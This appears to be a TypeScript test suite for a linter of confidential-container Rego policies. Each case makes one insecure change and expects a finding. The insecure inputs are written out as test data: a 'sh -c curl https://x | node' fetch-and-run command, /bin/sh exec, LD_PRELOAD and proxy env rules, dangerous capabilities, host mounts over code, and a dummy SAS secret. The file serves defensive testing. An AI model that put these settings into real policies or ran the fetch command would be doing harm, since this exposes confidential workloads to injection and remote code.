// Lint: one change to a clean policy, and the one finding that must follow.

import assert from 'node:assert/strict';

import { generateContractPolicy } from '../../../src/lib/cce-policy/generate/contract-policy.js';
import type { Finding } from '../../../src/lib/cce-policy/lint/finding.js';
import { LINT_RULES, type LintId } from '../../../src/lib/cce-policy/lint/lint-rules.js';
import { lintPolicy } from '../../../src/lib/cce-policy/lint/lint-policy.js';
import { parsePolicy } from '../../../src/lib/cce-policy/read/policy-model.js';
import { parsedContract, roomImages } from '../../support/room-fixture.js';

const CLEAN = generateContractPolicy({ parsed: parsedContract(), tlsRoots: null, images: roomImages() }).text;

function lint(text: string): readonly Finding[] {
  return lintPolicy(parsePolicy(text));
}

/* A rule before the first one of the summarizer. */
function withRule(pattern: string, strategy: 'string' | 're2' = 're2'): string {
  const rule = JSON.stringify({ pattern, required: false, strategy });
  return CLEAN.replace('"env_rules":[', `"env_rules":[${rule},`);
}

function withMount(source: string, destination: string): string {
  const mount = JSON.stringify({ destination, options: ['rbind', 'rshared', 'rw'], source, type: 'bind' });
  return CLEAN.replace('"mounts":[', `"mounts":[${mount},`);
}

const AZURE_FILE = 'sandbox:///tmp/atlas/azureFileVolume/.+';

const CASES: readonly (readonly [threat: string, id: LintId, text: string, example: string])[] = [
  [
    'I4',
    'POINT_ALWAYS_ALLOWED',
    CLEAN.replace(
      'exec_in_container := data.framework.exec_in_container',
      'exec_in_container := {"allowed": true}',
    ),
    '/bin/sh',
  ],
  [
    'I4',
    'POINT_DEFAULT_ALLOWED',
    CLEAN.replace('"0.11.0"', '"0.1.0"').replace('dump_stacks := data.framework.dump_stacks\n', ''),
    'stacks',
  ],
  ['I4', 'DUMP_STACKS', CLEAN.replace('allow_dump_stacks := false', 'allow_dump_stacks := true'), 'stacks'],
  [
    'I4',
    'RUNTIME_LOGGING',
    CLEAN.replace('allow_runtime_logging := false', 'allow_runtime_logging := true'),
    'log',
  ],
  [
    'I4',
    'UNENCRYPTED_SCRATCH',
    CLEAN.replace('allow_unencrypted_scratch := false', 'allow_unencrypted_scratch := true'),
    'disk',
  ],
  [
    'I4',
    'EXEC_SHELL',
    CLEAN.replace('"exec_processes":[]', '"exec_processes":[{"command":["/bin/sh"],"signals":[]}]'),
    'exec of /bin/sh is allowed',
  ],
  [
    'I4',
    'EXEC_ALLOWED',
    CLEAN.replace('"exec_processes":[]', '"exec_processes":[{"command":["/app/probe"],"signals":[]}]'),
    '/app/probe',
  ],
  ['I4', 'PRIVILEGED', CLEAN.replace('"allow_elevated":false', '"allow_elevated":true'), 'memory'],
  [
    'I4',
    'CAPABILITY_DANGEROUS',
    CLEAN.replace('"bounding":[', '"bounding":["CAP_SYS_PTRACE",'),
    'CAP_SYS_PTRACE',
  ],
  [
    'I4',
    'EXTERNAL_PROCESS',
    `${CLEAN}\nexternal_processes := [{"command":["/bin/ls"],"env_rules":[],"working_dir":"/","allow_stdio_access":true}]`,
    '/bin/ls',
  ],
  ['I8', 'STDIO_OPEN', CLEAN.replace('"allow_stdio_access":false', '"allow_stdio_access":true'), 'log'],
  ['I5', 'POLICY_FORM', `${CLEAN}\nexec_in_container { true }`, 'Rego'],
  ['I5', 'TEXT_LINE_BREAK', `${CLEAN}\n`, 'hash'],
  ['I6', 'ENV_OPEN_VALUE', withRule('MAX_TOKENS=.*'), 'the host may set MAX_TOKENS=999999'],
  ['I6', 'ENV_PARAMETER', withRule('^MAX_TOKENS=[0-9]{1,6}$'), 'the host may set MAX_TOKENS=999999'],
  ['I6', 'ENV_ANY_NAME', withRule('.+=.+'), 'LD_PRELOAD'],
  ['I7', 'ENV_DANGEROUS', withRule('LD_PRELOAD=.+'), 'the host may set LD_PRELOAD='],
  ['I7', 'ENV_DANGEROUS', withRule('(?i)https?_proxy=.*'), '_PROXY='],
  ['I7', 'ENV_ANY_NAME', withRule('A=1|B=2'), 'LD_PRELOAD'],
  ['I7', 'ENV_UNANCHORED', withRule('LEVEL=[0-9]'), 'LD_PRELOAD=/tmp/xLEVEL='],
  [
    'I7',
    'COMMAND_FETCHES',
    CLEAN.replace(
      '"command":["node","/app/lib/room/main.js"]',
      '"command":["sh","-c","curl https://x | node"]',
    ),
    'address',
  ],
  ['I7', 'ENV_PATTERN_INVALID', withRule('A=(x{1,1000}){1,2}'), 'dropped'],
  ['I10', 'MOUNT_HOST_CONTENT', withMount(AZURE_FILE, '/mnt/data'), 'same policy hash'],
  ['I10', 'MOUNT_OVER_CODE', withMount(AZURE_FILE, '/app'), 'mount'],
  ['I10', 'MOUNT_UNKNOWN', withMount('sandbox:///.+', '/mnt'), 'pattern'],
  ['I12', 'IMAGE_TAG', CLEAN.replace(/"id":"([^"@]+)@sha256:[0-9a-f]+"/, '"id":"$1:latest"'), 'tag'],
  ['I12', 'LAYERS_EMPTY', CLEAN.replace(/"layers":\[[^\]]+\]/, '"layers":[]'), 'not measured'],
  [
    'I12',
    'PAUSE_UNKNOWN',
    CLEAN.replace('16b514057a06ad665f92c02863aca074fd5976c755d26bff16365299169e8415', '0'.repeat(64)),
    'another program',
  ],
  ['O3', 'FRAGMENT_INFRASTRUCTURE', CLEAN, 'any fragment of Microsoft'],
  [
    'O3',
    'FRAGMENT_ADDS_CONTAINERS',
    CLEAN.replace(
      '"feed": "mcr.microsoft.com/aci/aci-cc-infra-fragment"',
      '"feed": "contoso.azurecr.io/fragment"',
    ),
    'may add containers',
  ],
  [
    'I4',
    'SECRET_IN_POLICY',
    withRule(`BLOB=https://x/c?sv=2024-11-04&sig=${'a'.repeat(40)}`, 'string'),
    'can read and use it',
  ],
  ['I4', 'VERSION_UNUSABLE', CLEAN.replace('framework_version := "0.2.3"\n', ''), 'do not count'],
  ['I4', 'COMMAND_MISSING', CLEAN.replace(/"command":\["node"[^\]]+\]/, '"command":null'), 'never starts'],
  ['I4', 'POINT_MISSING', CLEAN.replace('\nget_properties := data.framework.get_properties', ''), 'denies'],
  ['I4', 'CAPABILITY_EXTRA', CLEAN.replace('"bounding":[', '"bounding":["CAP_SYS_TIME",'), 'CAP_SYS_TIME'],
];

describe('policy lint', () => {
  it('has no error for the policy of a clean contract', () => {
    assert.deepEqual(
      lint(CLEAN).filter(({ severity }) => severity === 'error'),
      [],
    );
  });

  for (const [threat, id, text, example] of CASES) {
    it(`${threat}: finds ${id}, with an example (${text === CLEAN ? 'as generated' : 'one change'})`, () => {
      const found = lint(text).filter((finding) => finding.id === id);
      assert.ok(
        found.length > 0,
        `no ${id} among ${lint(text)
          .map((finding) => finding.id)
          .join()}`,
      );
      assert.ok(
        found.some((finding) => finding.example.includes(example)),
        found[0]?.example,
      );
      assert.equal(found[0]!.severity, LINT_RULES[id].severity);
    });
  }
});
